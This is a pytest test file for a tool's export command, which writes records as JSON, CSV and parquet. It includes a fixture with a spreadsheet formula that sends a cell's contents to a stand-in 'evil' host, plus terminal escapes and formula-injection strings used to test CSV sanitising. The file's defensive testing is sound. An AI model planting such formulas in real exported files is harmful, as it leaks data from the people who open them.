"""`foretool export`: every record comes out once, in every format, and does nothing to who reads it."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pytest
from command_fakes import CALC, fill, write_config
from msgspec.structs import replace

from foretool.desk.commands.export import KINDS, safe_cell
from foretool.fleet.people.issuer import principal_of
from foretool.server.commands.group import run
from foretool.server.config.loader import load
from foretool.storage.opening import open_store
from foretool.storage.records import AuditEntry, Call, Discovery, Miss, Prompt, ToolId

FORMULA = '=HYPERLINK("http://evil/?"&A1)'
CALLED = Call("s1", 0.0, CALC, "calc", "name", False, "ok", 1.0, True, '{"a":"number"}')


def written(tmp_path: Path) -> Path:
    path = write_config(tmp_path)
    now = time.time()
    with fill(path) as store:
        store.discoveries.add(Discovery("s9", now - 61, "pay the bill", (), None, "high", (), 9, 1.0))
        missed = Miss(
            "s9", now - 50, FORMULA, "unknown_name", "unknown", 0, 3, "\x1b]0;x\x07@SUM(A1)", (CALC,), 0, 0, "", "no",
            1, 2, {"words": -1.5}, call=2,
        )  # fmt: skip
        store.audit.add([AuditEntry(now - 9, "oauth:1", "ann", "cursor", "", "call", CALC, "ok")])
        store.calls.record([replace(CALLED, session="s9", at=now - 60 + place) for place in range(2)], [missed])
    return path


def lines(path: Path, *words: str, capsysbinary: pytest.CaptureFixture[bytes]) -> list[str]:
    assert run(["export", *words, "--config", str(path)]) == 0
    return capsysbinary.readouterr().out.decode().splitlines()


@pytest.mark.parametrize("words", [["export", "calls"], ["export", "calls", "--format", "csv"], ["tools", "--json"]])
def test_a_reader_that_goes_before_the_end_is_no_error(tmp_path: Path, words: list[str]) -> None:
    """`foretool export calls | head` ended with 1 and five lines of Python about a closed stderr."""
    path = written(tmp_path)
    reading, writing = os.pipe()
    os.close(reading)
    command = [sys.executable, "-m", "foretool", *words, "--config", str(path)]
    done = subprocess.run(command, stdout=writing, stderr=subprocess.PIPE, text=True, check=False)
    os.close(writing)
    assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.parametrize("kind", KINDS)
def test_each_record_comes_out_once_with_every_column(
    kind: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = written(tmp_path)
    said = [json.loads(line) for line in lines(path, kind, capsysbinary=capsysbinary)]
    assert said and all(set(each) == set(KINDS[kind][0].__struct_fields__) for each in said)
    table = list(
        csv.DictReader(io.StringIO("\n".join(lines(path, kind, "--format", "csv", capsysbinary=capsysbinary))))
    )
    assert [row["at"] for row in table] == [str(each["at"]) for each in said]
    assert len({json.dumps(each) for each in said}) == len(said)


def test_times_narrow_what_comes_out(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    path = written(tmp_path)
    recent = lines(path, "calls", "--since", "1h", capsysbinary=capsysbinary)
    assert {json.loads(line)["session"] for line in recent} == {"s9"} and len(recent) == 2
    rest = lines(path, "calls", "--until", "1h", capsysbinary=capsysbinary)
    assert len(rest) + len(recent) == len(lines(path, "calls", capsysbinary=capsysbinary))
    (episode,) = (json.loads(line) for line in lines(path, "episodes", "--since", "1h", capsysbinary=capsysbinary))
    assert (episode["calls"], episode["tasks"]) == ([CALC], ["pay the bill"])


def test_no_cell_is_a_formula_or_steers_a_terminal(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    text = "\n".join(lines(written(tmp_path), "misses", "--format", "csv", capsysbinary=capsysbinary))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert f"'{FORMULA}" in cells and not [cell for cell in cells if cell[:1] in "=@+" and cell]
    assert "\x1b" not in text and "\x07" not in text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("  -2", "'  -2"), ("\t=1", "'\t=1"), ("plain", "plain"), (-1.5, -1.5), (True, True),
        (None, None), ((ToolId("a"),), '["a"]'), ({"=x": 1}, '{"=x":1}'), ("\x00=1", "' =1"), ("|cmd", "'|cmd"),
        ("\uff1d1+1", "'=1+1"), ("\uff0bx", "'+x"), ("\uff0d1", "'-1"), ("\uff20x", "'@x"), ("\u200b=1", "' =1"),
        ("\ufeff=1", "' =1"), ("x;=1+1", "x;'=1+1"), (";=1", ";'=1"), ("x;\uff1d1", "x;'=1"), ("a\t @b", "a\t '@b"),
        ("a; b", "a; b"),
        ("\x9b31m", " 31m"), ("a\u202eb", "a b"),
    ],
)  # fmt: skip
def test_a_cell_is_what_it_says(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_a_file_is_new_and_private(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path, target = written(tmp_path), tmp_path / "calls.jsonl"
    words = ["export", "calls", "--output", str(target), "--config", str(path)]
    assert run(words) == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    before = target.read_bytes()
    assert run(words) == 2
    assert target.read_bytes() == before and "exists" in capsys.readouterr().err
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere")
    assert run([*words[:3], str(tmp_path / "link"), "--config", str(path)]) == 2
    assert not (tmp_path / "elsewhere").exists()


def test_without_pyarrow_the_way_to_it_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    assert run(["export", "calls", "--format", "parquet", "--config", str(written(tmp_path))]) == 2
    assert "needs pyarrow: " in capsys.readouterr().err


@pytest.mark.parametrize("kind", KINDS)
def test_parquet_holds_the_same(kind: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    path, target = written(tmp_path), tmp_path / "x.parquet"
    assert run(["export", kind, "--format", "parquet", "-o", str(target), "--config", str(path)]) == 0
    found = parquet.read_table(target).to_pylist()
    said = [json.loads(line) for line in lines(path, kind, capsysbinary=capsysbinary)]
    assert [row["at"] for row in found] == [each["at"] for each in said]
    assert list(found[0]) == list(said[0])


@pytest.mark.slow
def test_many_records_need_little_memory(tmp_path: Path) -> None:
    path = write_config(tmp_path)
    now = time.time()
    with open_store(load(path).storage) as store:
        for session in range(100):
            at = now - 1e6 + session * 5000
            store.tasks.add_prompt(Prompt(at - 1, f"task {session}", "x"))
            calls = [replace(CALLED, session=f"s{session}", at=at + place, arguments="x" * 200) for place in range(200)]
            store.calls.record(calls)
    peaks = []
    for kind in ("calls", "episodes"):
        tracemalloc.start()
        assert run(["export", kind, "-o", str(tmp_path / kind), "--config", str(path)]) == 0
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    # The 20,000 calls alone have 4 MB of arguments.
    assert (tmp_path / "calls").stat().st_size > 8_000_000 // 2 and max(peaks) < 8_000_000
    assert len((tmp_path / "episodes").read_text().splitlines()) == 100


def test_entries_of_the_audit_log_can_be_chosen(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    path = write_config(tmp_path)
    ann = AuditEntry(1e9, "oauth:1", "ann", "cursor", "work", "call", "git__push", "refused", session="s")
    with fill(path) as store:
        store.audit.add([ann, AuditEntry(1e9 + 9, "user:7", "bob", "", "", "decide", "git", "blocked", "tool push")])
    for chosen in (["--who", "ann"], ["--who", "oauth:1"], ["--action", "call"], ["--target", "git__push"]):
        (entry,) = lines(path, "audit", *chosen, capsysbinary=capsysbinary)
        assert (json.loads(entry)["name"], json.loads(entry)["outcome"]) == ("ann", "refused")
    assert lines(path, "audit", "--since", "1d", capsysbinary=capsysbinary) == []
    for chosen, near in ((["--who", "annn"], b'did you mean "ann"?'), (["--target", "git__psh"], b'mean "git__push"?')):
        assert run(["export", "audit", *chosen, "--config", str(path)]) == 1
        assert near in capsysbinary.readouterr().err, "an empty log would say that nothing was done"
    assert lines(path, "audit", "--who", "ann", "--since", "1d", capsysbinary=capsysbinary) == []
    assert run(["export", "calls", "--who", "ann", "--config", str(path)]) == 2
    assert b"choose entries of the audit log" in capsysbinary.readouterr().err


def test_calls_that_are_not_kept_are_named_beside_the_audit_log(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for keeps, told in ((False, True), (True, False)):
        path = write_config(tmp_path, audit=keeps)
        fill(path).close()
        assert run(["export", "audit", "--config", str(path)]) == 0
        assert ('Calls are not kept: set "audit" to true' in capsys.readouterr().err) == told


def test_a_person_is_found_by_name_and_by_subject(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    access = {"issuer": "https://login.example", "resource": "https://tools.example/mcp",
              "grants": [{"claim": "sub", "values": ["*"], "profiles": ["default"]}]}  # fmt: skip
    path = write_config(tmp_path, access=access, audit=True)
    with fill(path) as store:
        principal = principal_of(access["issuer"], "carl-77")
        store.audit.add([AuditEntry(1e9, principal, "Carl", "c", "", "call", "git__push", "ok")])
    for who in ("Carl", "carl-77", principal):
        (entry,) = lines(path, "audit", "--who", who, capsysbinary=capsysbinary)
        assert json.loads(entry)["name"] == "Carl"
